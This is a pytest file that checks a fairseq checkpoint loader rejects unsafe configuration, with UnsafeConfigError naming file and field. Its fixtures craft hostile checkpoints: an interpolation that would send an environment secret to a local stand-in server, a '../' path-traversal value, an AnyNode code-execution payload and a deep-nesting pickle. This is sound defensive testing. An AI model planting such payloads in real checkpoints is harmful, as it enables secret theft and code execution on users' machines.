"""Config checks of issue 28 on a real fairseq-train checkpoint: no interpolation or resolver in any
field (a local stand-in server must receive nothing), legacy `args` names that Hydra would turn
into a yaml path, unknown architectures, omegaconf nodes and deep nesting: each refused with an
UnsafeConfigError naming the file and the field."""
import argparse
import http.server
import threading
import zipfile

import pytest
import torch
from helpers.fairseq_payloads import load_state, payload, train_tiny_lm
from omegaconf.nodes import AnyNode

from fairseq_momentum.safe_config import MAX_DEPTH, UnsafeConfigError


@pytest.fixture(scope="module")
def lm(tmp_path_factory):
    """A real fairseq-train checkpoint of a tiny momentum LM and its data-bin."""
    return train_tiny_lm(tmp_path_factory.mktemp("lm"))


@pytest.fixture
def server():
    """A stand-in HTTP server on 127.0.0.1 that records every request path."""
    seen = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", seen
    httpd.shutdown()
    httpd.server_close()


def test_an_interpolated_url_is_refused_and_the_server_receives_nothing(lm, tmp_path, server, monkeypatch):
    from fairseq.models.transformer_lm import TransformerLanguageModel
    url, seen = server
    monkeypatch.setenv("SECRET_FOR_TEST", "hunter2")
    state = load_state(lm[0])
    state["cfg"]["bpe"] = {"_name": "gpt2", "gpt2_vocab_bpe": url + "/vocab.bpe",
                           "gpt2_encoder_json": url + "/enc.json?k=${oc.env:SECRET_FOR_TEST}"}
    folder = tmp_path / "model"
    folder.mkdir()
    torch.save(state, folder / "model.pt")
    with pytest.raises(UnsafeConfigError, match=r"model\.pt.*cfg\.bpe\.gpt2_encoder_json = .*interpolation"):
        TransformerLanguageModel.from_pretrained(str(folder), "model.pt", data_name_or_path=str(lm[1]))
    assert seen == []


def test_an_interpolation_loads_when_the_user_allows_it(lm, tmp_path, monkeypatch):
    from fairseq import checkpoint_utils
    state = load_state(lm[0])
    state["cfg"]["common"]["tensorboard_logdir"] = "${checkpoint.save_dir}"
    torch.save(state, tmp_path / "c.pt")
    with pytest.raises(UnsafeConfigError, match="cfg.common.tensorboard_logdir"):
        checkpoint_utils.load_checkpoint_to_cpu(str(tmp_path / "c.pt"))
    monkeypatch.setenv("FAIRSEQ_MOMENTUM_ALLOW_INTERPOLATION", "1")
    loaded = checkpoint_utils.load_checkpoint_to_cpu(str(tmp_path / "c.pt"))
    assert loaded["cfg"].common.tensorboard_logdir == loaded["cfg"].checkpoint.save_dir


def test_a_legacy_args_name_that_would_be_a_yaml_path_is_refused(lm, tmp_path):
    from fairseq import checkpoint_utils
    yaml = tmp_path / "planted.yaml"
    yaml.write_text("_name: planted\n")
    state = load_state(lm[0])
    args = argparse.Namespace(**vars(state["cfg"]["model"]))
    args.bpe = "../" * 40 + str(yaml.with_suffix("")).lstrip("/")
    state["args"], state["cfg"] = args, None
    torch.save(state, tmp_path / "legacy.pt")
    with pytest.raises(UnsafeConfigError, match=r"legacy\.pt.*args\.bpe = .* is not a registered bpe; "
                                                r"registered: .*gpt2"):
        checkpoint_utils.load_checkpoint_to_cpu(str(tmp_path / "legacy.pt"))


def test_an_unknown_architecture_names_the_value_and_the_choices(lm, tmp_path):
    from fairseq import checkpoint_utils
    state = load_state(lm[0])
    state["cfg"]["model"].arch = state["cfg"]["model"]._name = "no_such_arch"
    torch.save(state, tmp_path / "arch.pt")
    with pytest.raises(UnsafeConfigError, match=r"'no_such_arch' is not a registered architecture.*"
                                                r"momentum_transformer_lm"):
        checkpoint_utils.load_model_ensemble_and_task([str(tmp_path / "arch.pt")])


def test_a_payload_in_an_anynode_inside_the_model_namespace_is_refused(lm, tmp_path):
    from fairseq import checkpoint_utils
    marker = tmp_path / "ran"
    state = load_state(lm[0])
    state["cfg"]["model"].character_embeddings = True
    state["cfg"]["model"].character_filters = AnyNode(payload(marker))
    torch.save(state, tmp_path / "node.pt")
    with pytest.raises(UnsafeConfigError, match=r"node\.pt.*cfg\.model\.character_filters = "):
        checkpoint_utils.load_model_ensemble_and_task([str(tmp_path / "node.pt")])
    assert not marker.exists()


def _deep_list_pickle(depth: int) -> bytes:
    """A protocol-2 pickle of {"model": {}, "cfg": {"deep": [[[...]]]}} nested `depth` lists deep,
    written opcode by opcode (pickle itself recurses and cannot write it)."""
    def text(s):
        return b"X" + len(s).to_bytes(4, "little") + s.encode()
    deep = b"]" * depth + b"a" * (depth - 1)
    return (b"\x80\x02}(" + text("model") + b"}" + text("cfg") + b"}(" + text("deep") + deep + b"uu.")


@pytest.mark.parametrize("depth", [MAX_DEPTH + 5, 100_000])
def test_deep_nesting_is_refused_with_the_field(tmp_path, depth):
    from fairseq import checkpoint_utils

    import fairseq_momentum  # noqa: F401
    path = tmp_path / "deep.pt"
    torch.save({"model": {}, "cfg": {}}, path)
    with zipfile.ZipFile(path) as src:
        entries = {name: src.read(name) for name in src.namelist()}
    with zipfile.ZipFile(path, "w") as dst:
        for name, data in entries.items():
            dst.writestr(name, _deep_list_pickle(depth) if name.endswith("data.pkl") else data)
    with pytest.raises(UnsafeConfigError, match=r"deep\.pt.*(cfg\.deep.*nested|nested.*cfg\.deep)"):
        checkpoint_utils.load_checkpoint_to_cpu(str(path))
